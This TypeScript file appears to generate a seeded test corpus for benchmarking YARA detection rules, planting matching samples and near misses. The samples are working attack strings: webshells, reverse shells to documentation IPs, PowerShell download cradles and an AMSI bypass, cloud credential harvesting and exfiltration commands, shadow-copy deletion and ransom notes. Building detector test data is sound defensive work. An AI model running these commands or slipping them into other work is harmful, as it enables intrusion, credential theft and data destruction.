/**
 * A seeded corpus for the YARA parity test and the scan benchmark: logs, source code, configuration,
 * CSV, HTML, UTF-16 text, random binary, PE- and ELF-like executables, from 1 KB to several MB. Into
 * it go, for every rule of test/bench/yara-bench-rules, a sample that the rule must match and a near
 * miss that it must not (one byte off, the wrong offset, one below the count, the wrong file size or
 * header). The same seed always writes the same bytes.
 */
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createRandom, type Random } from '../../central/demo/random.js';

/** How big a corpus to write, and from which seed. */
export interface YaraCorpusOptions {
  readonly seed: number;
  /** About this many bytes in all (a file a plant needs to be large or small can move it a little). */
  readonly totalBytes: number;
  readonly files: number;
}

/** What was planted in one file: rule names whose sample it holds, and rule names whose near miss it holds. */
export interface PlantedRules {
  readonly hits: readonly string[];
  readonly nearMisses: readonly string[];
}

/** The written corpus. */
export interface YaraCorpus {
  /** Absolute paths, in the order written. */
  readonly files: string[];
  readonly bytes: number;
  /** Per file path, the samples and near misses planted in it. */
  readonly planted: ReadonlyMap<string, PlantedRules>;
}

type Kind = 'log' | 'source' | 'config' | 'csv' | 'html' | 'utf16' | 'binary' | 'pe' | 'mz' | 'elf64' | 'elf32' | 'whole';
type Base = 'pe' | 'mz' | 'elf64' | 'elf32';

/** Planted bytes and the conditions of the file they go into. */
interface Plant {
  readonly bytes: Buffer;
  /** An exact offset, or a window [first, last] for the first byte; else anywhere past the header. */
  readonly at?: number | readonly [number, number];
  /** The file must carry this executable header. */
  readonly base?: Base;
  /** The file size must be in [min, max). */
  readonly size?: readonly [number, number];
  /** The file must be of one of these kinds. */
  readonly kinds?: readonly Kind[];
  /** The plant is the whole file. */
  readonly whole?: boolean;
  /** UTF-16 text: wrapped in UTF-16 line breaks when planted anywhere. */
  readonly wide?: boolean;
}

interface RulePlants {
  /** Plants of one family never share a file, so one rule's sample cannot complete another's near miss. */
  readonly family: string;
  readonly hit: Plant;
  readonly miss: Plant;
}

const KB = 1024;
const MB = 1024 * KB;
const ANYWHERE = Number.MAX_SAFE_INTEGER;
const TEXT: readonly Kind[] = ['log', 'source', 'config', 'csv', 'html'];
const BINARY: readonly Kind[] = ['binary', 'pe', 'elf64', 'elf32'];

const ascii = (text: string) => Buffer.from(text, 'latin1');
const utf16 = (text: string) => Buffer.from(text, 'utf16le');
const xored = (text: string | Buffer, key: number) => Buffer.from((typeof text === 'string' ? ascii(text) : text).map((b) => b ^ key));
const base64 = (bytes: Buffer) => ascii(bytes.toString('base64'));
const hex = (text: string) => Buffer.from(text.replace(/\s+/g, ''), 'hex');

// The EICAR test file (public and harmless) and its leading-newline variant, kept base64-encoded so
// this source file does not trip an antivirus scanner; decoded in memory only.
const EICAR = 'WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=';
const EICAR_AFTER_NEWLINE = 'Clg1TyFQJUBBUFs0XFBaWDU0KFBeKTdDQyk3fSRFSUNBUi1TVEFOREFSRC1BTlRJVklSVVMtVEVTVC1GSUxFISRIK0gq';

// Public example values: the AWS documentation's example key pair, the Monero general fund address, a
// widely published example Bech32 address. Fake onion and hash values are fixed strings of the right alphabet.
const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const ONION = 'skywatchexampleransomnotecontactpagefortestsonlyqwertyab';
const SHA512_CRYPT = 'Qm9ndXNIYXNoRm9yVGVzdHNPbmx5Lk5vdEFSZWFsUGFzc3dvcmQuU2t5d2F0Y2hFeGFtcGxlVmFsdWUxMjM0Zx';
const KEY_BODY = 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZWQyNTUxOQAAACBza3l3YXRjaC1leGFtcGxlLWtleS1mb3ItdGVzdHMAAAAA';
const cradle = (verb: string) => `IEX (New-Object Net.WebClient).${verb}('http://203.0.113.7/a.ps1')`;
const chars = (n: number) => `$c = -join (${Array.from({ length: n }, (_, i) => `[char]${'Invoke-WebRequest -Uri http://203.0.113.7/s'.charCodeAt(i % 43)}`).join(',')}); iex $c`;
const killers = (n: number) => ['kinsing', 'kdevtmpfsi', 'xmr-stak', 'ddgs.3013', 'sysupdate'].slice(0, n).map((p) => `pkill -9 -f ${p}\n`).join('') + 'crontab -r\n';
const cobaltConfig = hex('0001 0001 0002 0000 0002 0001 0002 01BB 0003 0002 0004 0000EA60 0004 0002 0004 00100000');
const imdsV2 = (path: string) =>
  `TOKEN=$(curl -sX PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600")\n` +
  `curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254${path}`;
const perl = (use: string) =>
  `perl -e '${use}$i="192.0.2.10";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));` +
  `if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`;
const pty = (shell: string) =>
  `python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("192.0.2.10",4444));` +
  `os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("${shell}")'`;
const tcpClient = (type: string) =>
  `$client = New-Object System.Net.Sockets.${type}('192.0.2.10',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};` +
  `while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);` +
  `$sendback = (iex $data 2>&1 | Out-String );$stream.Write(([text.encoding]::ASCII).GetBytes($sendback),0,$sendback.Length)}`;
const ransomNote = (bitcoin: string, onion: string) =>
  `YOUR FILES HAVE BEEN ENCRYPTED!\r\nTo get them back, send 0.05 ${bitcoin} to the address below.\r\n` +
  `Then open http://${onion}.onion/ to decrypt your files.\r\n`;
const extortion =
  'All objects in this S3 bucket were copied to our servers. Your data has been downloaded and will be published\n' +
  'unless you pay within 48 hours.\nBTC wallet: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n';
const upxSections = Buffer.concat([ascii('UPX0'), Buffer.alloc(36), ascii('UPX1'), Buffer.alloc(36)]);
const chromeStore = (dpapi: string) =>
  ascii(`C:\\Users\\alice\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data\0{"os_crypt":{"encrypted_key":"RFBBUEkBAAAA0Iyd3wEV0RGM"}}\0${dpapi}\0`);
const rsaBlob = (bits: string) => Buffer.concat([hex(`0602 0000 00A4 0000 5253 4131 ${bits} 0000 0100 0100`), xored(Buffer.alloc(256, 0x5c), 0x33)]);

/** For each bench rule, the sample it must match and the near miss it must not. */
const PLANTS: Readonly<Record<string, RulePlants>> = {
  Bench_Webshell_PHP_Eval_Request: {
    family: 'webshell',
    hit: { bytes: ascii("<?php @eval($_POST['cmd']); ?>"), at: [0, 900], kinds: TEXT },
    miss: { bytes: ascii("<?php @eval($_POST['cmd']); ?>"), at: [2048, ANYWHERE], kinds: TEXT },
  },
  Bench_Webshell_PHP_Obfuscated_Payload: {
    family: 'webshell',
    hit: { bytes: ascii("<?php eval(gzinflate(str_rot13(base64_decode('rUl9c9o4Ev45VfkPilKpgCr7ECDkSFJJ1QCB')))); ?>"), size: [KB, MB] },
    miss: { bytes: ascii("<?php eval(gzinflate(str_rot13(base64_decode('rUl9c9o4Ev45VfkPilKpgCr7ECDkSFJJ1QCB')))); ?>"), size: [MB, 4 * MB] },
  },
  Bench_Webshell_JSP_Runtime_Exec: {
    family: 'webshell',
    hit: { bytes: ascii('<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); InputStream in = p.getInputStream(); %>') },
    miss: { bytes: ascii('<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getAttribute("job")); InputStream in = p.getInputStream(); %>') },
  },
  Bench_Webshell_ASPX_Process_Start: {
    family: 'webshell',
    hit: { bytes: utf16('<% System.Diagnostics.Process.Start("CMD.EXE", "/c " + Request.Form["c"]); %>'), wide: true },
    miss: { bytes: utf16('<% System.Diagnostics.Process.Start("mycmd.exe", "/c " + Request.Form["c"]); %>'), wide: true },
  },
  Bench_Webshell_China_Chopper: {
    family: 'webshell',
    hit: { bytes: ascii('<%@ Page Language="Jscript"%><%eval(Request.Item["chopper"],"unsafe");%>'), size: [KB, 64 * KB] },
    miss: { bytes: ascii('<%@ Page Language="Jscript"%><%eval(Request.Item["z0z1z2z3z4z5z6z7z"],"unsafe");%>'), size: [KB, 64 * KB] },
  },
  Bench_RevShell_Bash_Dev_Tcp: {
    family: 'revshell',
    hit: { bytes: ascii('bash -i >& /dev/tcp/192.0.2.10/4444 0>&1') },
    miss: { bytes: ascii('bash -i >& /dev/tcp/192.0.2.10/4 0>&1') },
  },
  Bench_RevShell_Python_Pty: { family: 'revshell', hit: { bytes: ascii(pty('/bin/bash')) }, miss: { bytes: ascii(pty('/bin/zsh')) } },
  Bench_RevShell_Netcat_Exec: {
    family: 'revshell',
    hit: { bytes: ascii('nc -e /bin/sh 192.0.2.10 4444') },
    miss: { bytes: ascii('nc -e /bin/csh 192.0.2.10 4444') },
  },
  Bench_RevShell_Perl_Socket: { family: 'revshell', hit: { bytes: ascii(perl('use Socket;')) }, miss: { bytes: ascii(perl('use IO::Socket::INET;')) } },
  Bench_RevShell_PowerShell_TcpClient: {
    family: 'revshell',
    hit: { bytes: utf16(tcpClient('TCPClient')), wide: true },
    miss: { bytes: ascii(tcpClient('UDPClient')) },
  },
  Bench_RevShell_Socat_Pty: {
    family: 'revshell',
    hit: { bytes: ascii("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.10:4444") },
    miss: { bytes: ascii("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.10:4") },
  },
  Bench_Miner_Stratum_Pool_URL: {
    family: 'miner',
    hit: { bytes: ascii('"url": "stratum+tcp://pool.supportxmr.com:3333",') },
    miss: { bytes: ascii('"url": "stratum+tcq://pool.supportxmr.com:3333",') },
  },
  Bench_Miner_XMRig_Config: {
    family: 'miner',
    hit: { bytes: ascii('{\n  "autosave": true,\n  "donate-level": 1,\n  "randomx": { "init": -1, "mode": "auto" },\n  "pools": [{ "coin": "monero", "nicehash": false, "rig-id": null }]\n}'), size: [KB, 512 * KB] },
    miss: { bytes: ascii('{\n  "autosave": true,\n  "donate-level": 1,\n  "pools": [{ "rig-id": null }]\n}'), size: [KB, 512 * KB] },
  },
  Bench_Miner_Monero_Wallet: {
    family: 'miner',
    hit: { bytes: ascii(`xmrig -o pool.minexmr.com:4444 -u ${WALLET} -p worker1`) },
    miss: { bytes: ascii(`xmrig -o pool.minexmr.com:4444 -u ${WALLET.slice(0, -1)} -p worker1`) },
  },
  Bench_Miner_Competitor_Killer: { family: 'miner', hit: { bytes: ascii(killers(4)) }, miss: { bytes: ascii(killers(3)) } },
  Bench_Miner_XOR_Stratum: {
    family: 'miner',
    hit: { bytes: xored('stratum+tcp://pool.example.net:3333', 0x5a) },
    miss: { bytes: ascii('stratum+tcp:// ') },
  },
  Bench_Miner_XMRig_ELF: {
    family: 'miner',
    hit: { bytes: ascii('xmrig\0cryptonight\0randomx\0--donate-level\0'), base: 'elf64' },
    miss: { bytes: ascii('xmrig2\0cryptonight\0randomx\0'), base: 'elf64' },
  },
  CoinMiner_Strings: {
    family: 'miner',
    hit: { bytes: ascii('stratum+udp://pool.example.net:3333'), size: [KB, 3000 * KB] },
    miss: { bytes: ascii('stratum+udp:/pool.example.net:3333') },
  },
  PUA_Crypto_Mining_CommandLine_Indicators_Oct21: {
    family: 'miner',
    hit: { bytes: ascii('./xmrig --donate-level=0 --threads=4'), size: [KB, 5000 * KB] },
    miss: { bytes: ascii('./xmrig --donate-level=1 --threads=4') },
  },
  Bench_Cloud_IMDS_Credential_Harvest: {
    family: 'cloud',
    hit: { bytes: ascii('ROLE=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)') },
    miss: { bytes: ascii('ROLE=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credential/)') },
  },
  Bench_Cloud_IMDSv2_Token_Credentials: {
    family: 'cloud',
    hit: { bytes: ascii(imdsV2('/latest/meta-data/iam/security-credentials/ec2-app-role')) },
    miss: { bytes: ascii(imdsV2('/latest/meta-data/placement/region')) },
  },
  Bench_Cloud_ECS_Task_Credentials: {
    family: 'cloud',
    hit: { bytes: ascii('CREDS=$(curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI)') },
    miss: { bytes: ascii('CREDS=$(curl -s 169.254.170.23$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI)') },
  },
  Bench_Cloud_AWS_Access_Key_Pair: {
    family: 'cloud',
    hit: { bytes: ascii('[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n') },
    miss: { bytes: ascii('[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKE\n') },
  },
  Bench_Cloud_IMDS_Obfuscated_Address: {
    family: 'cloud',
    hit: { bytes: ascii('curl -s http://2852039166/latest/meta-data/') },
    miss: { bytes: ascii('curl -s http://2852039165/latest/meta-data/') },
  },
  Bench_Cloud_IMDS_Base64: {
    family: 'cloud',
    hit: { bytes: ascii(`echo ${base64(ascii('curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/'))} | base64 -d | sh`) },
    miss: { bytes: ascii(`echo ${base64(ascii('curl -s http://169.254.169.253/latest/meta-data/iam/security-credentials/'))} | base64 -d | sh`) },
  },
  Bench_Cloud_AWS_Credentials_File_Exfil: {
    family: 'cloud',
    hit: { bytes: ascii('aws s3 cp ~/.aws/credentials s3://exfil-bucket-example/host1/') },
    miss: { bytes: ascii('aws s3 cp /var/log/app/ s3://app-logs-example/ --recursive --exclude "*" --include "*.log" && echo "keys stay in ~/.aws/credentials"') },
  },
  Bench_PE_Small_Downloader: {
    family: 'pe',
    hit: { bytes: ascii('URLDownloadToFileA\0\0ShellExecuteA\0\0WinExec\0'), base: 'pe', size: [4 * KB, 2 * MB] },
    miss: { bytes: ascii('URLDownloadToFileA\0\0ShellExecuteA\0\0WinExec\0'), base: 'mz' },
  },
  Bench_PE_UPX_Packed: {
    family: 'pe',
    hit: { bytes: upxSections, base: 'pe', at: [0x178, 0x300] },
    miss: { bytes: upxSections, base: 'pe', at: [2048, ANYWHERE] },
  },
  Bench_PE_XOR_DOS_Stub: {
    family: 'pe',
    hit: { bytes: xored('This program cannot be run in DOS mode.\r\r\n$', 0x37), kinds: BINARY },
    miss: { bytes: ascii('This program cannot be run in DOS mode.\r\r\n$'), kinds: BINARY },
  },
  Bench_Shellcode_Metasploit_Block_API: {
    family: 'shellcode',
    hit: { bytes: hex('FC E8 82 00 00 00 60 89 E5 31 C0 64 8B 50 30 8B 52 0C 8B 52 14'), kinds: BINARY },
    miss: { bytes: hex('FC E8 82 00 00 00 60 89 E5 31 C1 64 8B 50 30 8B 52 0C 8B 52 14'), kinds: BINARY },
  },
  Bench_CobaltStrike_Beacon_Config: {
    family: 'shellcode',
    hit: { bytes: xored(cobaltConfig, 0x2e), kinds: BINARY },
    miss: { bytes: xored(cobaltConfig, 0x2f), kinds: BINARY },
  },
  Bench_Mimikatz_Commands: {
    family: 'hacktool',
    hit: { bytes: utf16("mimikatz # privilege::debug\r\nPrivilege '20' OK\r\nmimikatz # sekurlsa::logonpasswords\r\nmimikatz # sekurlsa::logonpasswords\r\n"), wide: true },
    miss: { bytes: utf16("mimikatz # privilege::debug\r\nPrivilege '20' OK\r\nmimikatz # sekurlsa::logonpasswords\r\n"), wide: true },
  },
  Bench_ELF_Ptrace_Injector: {
    family: 'elf',
    hit: { bytes: ascii('PTRACE_ATTACH\0/proc/%d/maps\0process_vm_writev\0'), base: 'elf64' },
    miss: { bytes: ascii('PTRACE_ATTACH\0/proc/%d/mem\0process_vm_writev\0'), base: 'elf64' },
  },
  Bench_ELF_LD_Preload_Rootkit: {
    family: 'elf',
    hit: { bytes: ascii('/etc/ld.so.preload\0readdir\0dlsym\0'), base: 'elf64' },
    miss: { bytes: ascii('/etc/ld.so.preload\0readdir\0dlsym\0'), base: 'elf32' },
  },
  Bench_Ransom_Note: {
    family: 'ransom',
    hit: { bytes: utf16(ransomNote('Bitcoin', ONION)), wide: true },
    miss: { bytes: ascii(ransomNote('bitcoins', ONION.slice(1))) },
  },
  Bench_Ransom_Shadow_Copy_Deletion: {
    family: 'ransom',
    hit: { bytes: utf16('cmd.exe /c vssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} recoveryenabled no'), wide: true },
    miss: { bytes: ascii('vssadmin list shadows\r\nvssadmin delete shadows /all /quiet\r\n') },
  },
  Bench_Ransom_RSA_Public_Key_Blob: {
    family: 'ransom',
    hit: { bytes: rsaBlob('0008'), kinds: BINARY, size: [KB, 4 * MB] },
    miss: { bytes: rsaBlob('0004'), kinds: BINARY },
  },
  Bench_Ransom_S3_Extortion_Note: {
    family: 'ransom',
    hit: { bytes: ascii(extortion), size: [KB, 64 * KB] },
    miss: { bytes: ascii(extortion), size: [64 * KB, MB] },
  },
  Bench_PowerShell_EncodedCommand: {
    family: 'powershell',
    hit: { bytes: ascii(`powershell.exe -NoP -NonI -W Hidden -Enc ${base64(utf16(cradle('DownloadString')))}`) },
    miss: { bytes: ascii('powershell.exe -NoP -Enc ZQBjAGgAbwAgAGgAaQA=') },
  },
  Bench_PowerShell_Download_Cradle: {
    family: 'powershell',
    hit: { bytes: ascii(cradle('DownloadString')) },
    miss: { bytes: ascii("(New-Object Net.WebClient).DownloadFile('http://203.0.113.7/update.exe', 'C:\\Users\\Public\\update.exe')") },
  },
  Bench_PowerShell_Base64_UTF16_Cradle: {
    family: 'powershell',
    hit: { bytes: ascii(`-enc ${base64(utf16(cradle('DownloadString')))}`) },
    miss: { bytes: ascii(`-enc ${base64(utf16(cradle('DownloadFile')))}`) },
  },
  Bench_PowerShell_AMSI_Bypass: {
    family: 'powershell',
    hit: { bytes: ascii("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)") },
    miss: { bytes: ascii("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFaled','NonPublic,Static').SetValue($null,$true)") },
  },
  Bench_PowerShell_Char_Obfuscation: { family: 'powershell', hit: { bytes: ascii(chars(21)) }, miss: { bytes: ascii(chars(20)) } },
  Bench_Private_Key_File: {
    family: 'secret',
    hit: { bytes: ascii(`-----BEGIN OPENSSH PRIVATE KEY-----\n${KEY_BODY}\n-----END OPENSSH PRIVATE KEY-----\n`), at: 0, kinds: TEXT },
    miss: { bytes: ascii(`-----BEGIN OPENSSH PRIVATE KEY-----\n${KEY_BODY}\n-----END OPENSSH PRIVATE KEY-----\n`), at: [1024, ANYWHERE], kinds: TEXT },
  },
  Bench_Shadow_File_Copy: {
    family: 'secret',
    hit: { bytes: ascii(`root:$6$Zk3mQx9v$${SHA512_CRYPT}:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\n`), at: 0, kinds: TEXT },
    miss: { bytes: ascii(`daemon:*:19700:0:99999:7:::\nroot:$6$Zk3mQx9v$${SHA512_CRYPT}:19700:0:99999:7:::\n`), at: 0, kinds: TEXT },
  },
  Bench_Cron_Curl_Pipe_Shell: {
    family: 'secret',
    hit: { bytes: ascii('*/5 * * * * curl -fsSL http://203.0.113.7/init.sh | sh') },
    miss: { bytes: ascii('*/5 * * * * curl -fsSL http://203.0.113.7/init.sh -o /tmp/init.sh') },
  },
  Bench_Browser_Credential_Theft: {
    family: 'secret',
    hit: { bytes: chromeStore('CryptUnprotectData') },
    miss: { bytes: chromeStore('CryptProtectData') },
  },
  SUSP_Just_EICAR: {
    family: 'eicar',
    hit: { bytes: Buffer.from(EICAR, 'base64'), whole: true },
    miss: { bytes: Buffer.from(EICAR_AFTER_NEWLINE, 'base64'), whole: true },
  },
  SUSP_XORed_Mozilla_Oct19: {
    family: 'xor-hunting',
    hit: { bytes: xored('Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 0x23), kinds: BINARY },
    miss: { bytes: Buffer.concat([xored('Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 0x23), ascii('\nMozilla/5.0 (X11; Linux x86_64)')]), kinds: BINARY },
  },
};

/** The rules the corpus plants samples for. */
export const PLANTED_RULES: readonly string[] = Object.keys(PLANTS);

interface Slot {
  index: number;
  kind: Kind;
  size: number;
  readonly placed: Array<{ offset: number; bytes: Buffer }>;
  readonly families: Set<string>;
  readonly hits: string[];
  readonly nearMisses: string[];
}

/** Writes the corpus into `dir` (emptied first). */
export function writeYaraCorpus(dir: string, options: YaraCorpusOptions): YaraCorpus {
  rmSync(dir, { recursive: true, force: true });
  const root = createRandom(options.seed);
  const slots = layout(root.fork('layout'), options);
  plant(root.fork('plants'), slots);
  const files: string[] = [];
  const planted = new Map<string, PlantedRules>();
  let bytes = 0;
  for (const slot of slots) {
    const content = slot.kind === 'whole' ? slot.placed[0]!.bytes : contentOf(slot.kind, slot.size, root.fork(`file-${slot.index}`));
    if (slot.kind !== 'whole') for (const p of slot.placed) p.bytes.copy(content, p.offset);
    const folder = join(dir, FOLDER[slot.kind]);
    mkdirSync(folder, { recursive: true });
    const path = join(folder, `${String(slot.index).padStart(5, '0')}.${EXTENSION[slot.kind]}`);
    writeFileSync(path, content);
    files.push(path);
    bytes += content.length;
    if (slot.hits.length || slot.nearMisses.length) planted.set(path, { hits: [...slot.hits], nearMisses: [...slot.nearMisses] });
  }
  return { files, bytes, planted };
}

const FOLDER: Record<Kind, string> = {
  log: 'logs', source: 'src', config: 'etc', csv: 'exports', html: 'www', utf16: 'docs', binary: 'blobs',
  pe: 'bin', mz: 'bin', elf64: 'bin', elf32: 'bin', whole: 'uploads',
};
const EXTENSION: Record<Kind, string> = {
  log: 'log', source: 'js', config: 'yaml', csv: 'csv', html: 'html', utf16: 'txt', binary: 'bin',
  pe: 'exe', mz: 'dll', elf64: 'so', elf32: 'elf', whole: 'com',
};
const KIND_WEIGHTS: ReadonlyArray<readonly [Kind, number]> = [
  ['log', 18], ['source', 12], ['config', 8], ['csv', 10], ['html', 10], ['utf16', 8],
  ['binary', 16], ['pe', 9], ['mz', 1], ['elf64', 7], ['elf32', 1],
];
const HEADER: Partial<Record<Kind, number>> = { pe: 0x178, mz: 0x178, elf64: 0x40, elf32: 0x34, utf16: 2 };

/** File sizes (a few large files, the rest log-uniform from 1 KB) and kinds. */
function layout(rng: Random, { totalBytes, files }: YaraCorpusOptions): Slot[] {
  const large = Math.min(Math.max(1, Math.round(totalBytes / (24 * MB))), Math.max(1, Math.floor(files / 10)));
  const sizes: number[] = [];
  for (let i = 0; i < large; i++) sizes.push(Math.min(rng.between(2 * MB, 6 * MB), Math.floor(totalBytes / 4)));
  const draws = Array.from({ length: files - large }, () => Math.exp(rng.next() * Math.log(512)));
  const rest = Math.max(0, totalBytes - sizes.reduce((a, b) => a + b, 0));
  const scale = rest / draws.reduce((a, b) => a + b, 0);
  for (const d of draws) sizes.push(Math.max(KB, Math.round(d * scale)));
  const total = KIND_WEIGHTS.reduce((a, [, w]) => a + w, 0);
  return sizes.map((size, i) => {
    let pick = rng.next() * total;
    let kind: Kind = 'log';
    for (const [k, w] of KIND_WEIGHTS) if ((pick -= w) < 0) { kind = k; break; }
    if (size < 4 * KB && (kind in HEADER) && kind !== 'utf16') kind = 'binary';
    return { index: i, kind, size, placed: [], families: new Set(), hits: [], nearMisses: [] };
  });
}

/** Assigns every rule's sample and near miss once, then extra ones (half as many as files) at random. */
function plant(rng: Random, slots: Slot[]): void {
  const jobs: Array<{ rule: string; hit: boolean; extra: boolean }> = [];
  for (const rule of PLANTED_RULES) jobs.push({ rule, hit: true, extra: false }, { rule, hit: false, extra: false });
  const extra = Math.floor(slots.length / 2);
  for (let i = 0; i < extra; i++) jobs.push({ rule: rng.pick(PLANTED_RULES), hit: rng.chance(0.5), extra: true });
  for (const job of jobs) {
    const spec = PLANTS[job.rule]!;
    const p = job.hit ? spec.hit : spec.miss;
    const bytes = p.whole || p.at !== undefined ? p.bytes : wrap(p);
    const fits = slots.filter((s) => !s.families.has(spec.family) && offsetIn(s, p, bytes) !== undefined);
    // Only the first sample and near miss of each rule may reshape a file; extra ones go where they fit.
    if (!fits.length && job.extra) continue;
    const slot = fits.length ? rng.pick(fits) : reshape(rng, slots, p, bytes);
    if (p.whole) {
      slot.kind = 'whole';
      slot.size = bytes.length;
    }
    const offset = p.whole ? 0 : offsetIn(slot, p, bytes, rng)!;
    slot.placed.push({ offset, bytes });
    slot.families.add(spec.family);
    (job.hit ? slot.hits : slot.nearMisses).push(job.rule);
  }
}

/** Line breaks around a plant placed anywhere, so it never runs into the word before or after it. */
function wrap(p: Plant): Buffer {
  const eol = p.wide ? utf16('\r\n') : ascii('\n');
  return Buffer.concat([eol, p.bytes, eol]);
}

/** A free offset for `bytes` in `slot` that meets the plant's conditions (random with `rng`, else the first). */
function offsetIn(slot: Slot, p: Plant, bytes: Buffer, rng?: Random): number | undefined {
  if (slot.kind === 'whole') return undefined;
  if (p.whole) return slot.placed.length === 0 && !(slot.kind in HEADER) && slot.size <= 64 * KB ? 0 : undefined;
  // MZ files without a PE signature exist only to hold the PE rules' near misses.
  if (p.base ? slot.kind !== p.base : slot.kind === 'mz') return undefined;
  if (p.kinds && !p.kinds.includes(slot.kind)) return undefined;
  if (p.size && (slot.size < p.size[0] || slot.size >= p.size[1])) return undefined;
  // Past the header, and past the first bytes, which only a plant meant for offset 0 may take.
  const floor = p.at === 0 ? 0 : Math.max(HEADER[slot.kind] ?? 0, 64);
  const [first, last] = p.at === undefined ? [floor, ANYWHERE] : typeof p.at === 'number' ? [p.at, p.at] : p.at;
  const lo = Math.max(first, floor);
  const hi = Math.min(last, slot.size - bytes.length - 1);
  if (hi < lo) return undefined;
  const free = (o: number) => slot.placed.every((q) => o + bytes.length + 16 <= q.offset || q.offset + q.bytes.length + 16 <= o);
  if (rng) for (let tries = 0; tries < 64; tries++) {
    const o = lo + rng.int(hi - lo + 1);
    if (free(o)) return o;
  }
  for (let o = lo; o <= hi; o += 256) if (free(o)) return o;
  return undefined;
}

/** Turns an unplanted file into one that fits `p` when no file does (a size or header the mix lacks). */
function reshape(rng: Random, slots: Slot[], p: Plant, bytes: Buffer): Slot {
  const empty = slots.filter((s) => s.placed.length === 0 && s.kind !== 'whole');
  if (!empty.length) throw new Error('the YARA corpus has too few files for its planted samples');
  const slot = rng.pick(empty);
  if (p.whole) return slot;
  slot.kind = p.base ?? (p.kinds && !p.kinds.includes(slot.kind) ? p.kinds[0]! : slot.kind === 'mz' ? 'binary' : slot.kind);
  const [min, max] = p.size ?? [4 * KB, ANYWHERE];
  const needed = (typeof p.at === 'object' ? Math.min(p.at[0], 64 * KB) : 0) + bytes.length + 1024;
  slot.size = Math.max(needed, Math.min(max - 1, Math.max(min, slot.size)));
  if (offsetIn(slot, p, bytes) === undefined) throw new Error(`no room for a planted sample in a ${slot.kind} file of ${slot.size} bytes`);
  return slot;
}

/** The base content of a file of `kind`, exactly `size` bytes. */
function contentOf(kind: Kind, size: number, rng: Random): Buffer {
  switch (kind) {
    case 'binary': return randomBytes(rng, size);
    case 'pe': case 'mz': return Buffer.concat([peHeader(kind === 'pe' ? 0x80 : 0x84), executableBody(rng, size - 0x178)]);
    case 'elf64': case 'elf32': return elf(kind, rng, size);
    case 'utf16': return Buffer.concat([Buffer.from([0xff, 0xfe]), utf16(text(rng, Math.ceil(size / 2), (r) => (r.chance(0.5) ? configLine(r) : htmlLine(r))))]).subarray(0, size);
    default: return ascii(text(rng, size, LINES[kind as keyof typeof LINES]));
  }
}

function text(rng: Random, size: number, line: (r: Random) => string): string {
  const parts: string[] = [];
  for (let n = 0; n < size; ) {
    const l = line(rng);
    parts.push(l);
    n += l.length;
  }
  return parts.join('').slice(0, size);
}

function randomBytes(rng: Random, size: number): Buffer {
  const out = Buffer.allocUnsafe(size + 3);
  for (let i = 0; i < size; i += 4) out.writeUInt32LE(rng.word(), i);
  return out.subarray(0, size);
}

/** DOS header with the stub message, a PE signature at 0x80 (an MZ-only file points e_lfanew past it), COFF and section table. */
function peHeader(lfanew: number): Buffer {
  const h = Buffer.alloc(0x178);
  h.write('MZ', 0, 'latin1');
  h.writeUInt32LE(lfanew, 0x3c);
  h.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  h.write('PE\0\0', 0x80, 'latin1');
  h.writeUInt16LE(0x14c, 0x84);
  h.writeUInt16LE(3, 0x86);
  h.writeUInt16LE(0xe0, 0x94);
  h.writeUInt16LE(0x10b, 0x98);
  return h;
}

/** Code-like random blocks, zero padding and an import string table. */
function executableBody(rng: Random, size: number): Buffer {
  const body = randomBytes(rng, size);
  for (let at = 0; at < size; at += 4 * KB) if (rng.chance(0.25)) body.fill(0, at, Math.min(size, at + 4 * KB));
  const imports = ascii('kernel32.dll\0GetProcAddress\0LoadLibraryA\0VirtualAlloc\0CreateFileW\0ReadFile\0CloseHandle\0printf\0malloc\0free\0memcpy\0');
  if (size > imports.length * 2) imports.copy(body, rng.int(size - imports.length));
  return body;
}

